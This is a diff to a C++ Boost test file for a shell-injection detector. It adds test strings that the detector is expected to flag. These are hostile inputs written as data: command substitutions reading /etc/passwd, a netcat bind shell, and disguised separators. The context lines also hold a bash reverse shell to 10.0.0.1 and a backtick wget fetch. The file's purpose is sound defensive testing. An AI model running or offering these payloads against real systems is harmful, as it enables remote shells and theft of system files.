@@ -72,6 +72,8 @@ BOOST_AUTO_TEST_CASE(substitutions) {
   BOOST_TEST(has("$(whoami)", "substitution"));
   BOOST_TEST(has("a\"$(cat /etc/passwd)\"", "substitution"));
   BOOST_TEST(has("fix $(id) build", "substitution-bare"));
+  BOOST_TEST(has("a$(echo x)b", "substitution-joined"));
+  BOOST_TEST(has("`/usr/bin/id`", "backtick"));
   BOOST_TEST(has("`cat /etc/passwd`", "backtick"));
   BOOST_TEST(has("a`wget -qO- a.example`.txt", "backtick"));
   BOOST_TEST(has("x=`date`", "backtick-bare"));
@@ -90,6 +92,10 @@ BOOST_AUTO_TEST_CASE(separators_in_every_quotation) {
   }
   BOOST_TEST(has("one two three; cat /etc/passwd", "chain-inside"));
   BOOST_TEST(has("x\ncat /etc/passwd", "line"));
+  BOOST_TEST(has("'\\n/bin/ls -al\\n'", "line"));
+  BOOST_TEST(has("\\nid\\n", "line"));
+  BOOST_TEST(has(";$u cat /etc$u/passwd", "disguised"));
+  BOOST_TEST(has("a;id\\n", "chain-bare"));
   BOOST_TEST(has(";id", "chain-bare"));
   BOOST_TEST(has("name'; id #", "chain-bare"));
   BOOST_TEST(has("x|sh", "pipe-to-shell"));
@@ -118,6 +124,9 @@ BOOST_AUTO_TEST_CASE(forms_of_a_shell_alone) {
   BOOST_TEST(has("bash -i >& /dev/tcp/10.0.0.1/80 0>&1", "socket"));
   BOOST_TEST(has("cat</etc/passwd", "input"));
   BOOST_TEST(has("system('cat /etc/passwd')", "call"));
+  BOOST_TEST(has("exec('whoami')", "call-bare"));
+  BOOST_TEST(has("nc -lvp 4444 -e /bin/sh", "command-sure"));
+  BOOST_TEST(has("${PATH#{}/}", "expansion"));
   BOOST_TEST(has(";.shell id", "dot-command"));
   BOOST_TEST(has("bash -c \"id\"", "command-sure"));
   BOOST_TEST(has("/bin/unxz -c /tmp/x.xz", "command-path"));
